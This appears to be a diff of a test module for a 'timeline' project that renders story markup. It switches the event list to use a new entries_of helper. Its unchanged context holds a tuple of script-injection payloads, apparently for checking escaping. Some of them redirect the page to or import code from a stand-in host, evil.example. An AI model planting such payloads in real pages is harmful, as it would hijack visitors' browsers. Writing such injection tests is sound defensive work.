@@ -15,7 +15,7 @@ from timeline.layout import lay_out
 from timeline.lesson import Stage
 from timeline.markup import about, event_list, event_panel, lesson_panel, masthead
 from timeline.story import Event, Lane, Outlet, Person, Quotation, Source, Story, Term
-from timeline.table import to_table
+from timeline.table import entries_of, to_table
 
 # Ours, by what each is after; {n} tells one from another.
 _ACTS = ("window.broken={n}", "top.location='//evil.example/{n}'", "import('//evil.example/{n}')")
@@ -139,7 +139,7 @@ def markups(story: Story) -> dict[str, str]:
     return lesson | {
         "masthead": masthead(story),
         "about": about(story),
-        "list": event_list(story, table),
+        "list": event_list(story, entries_of(table)),
         "panel": event_panel(story, row, place="1", reasons=""),
         "offline page": to_page(story, chronology),
         "worksheet": to_worksheet(story, chronology, copy="teacher"),
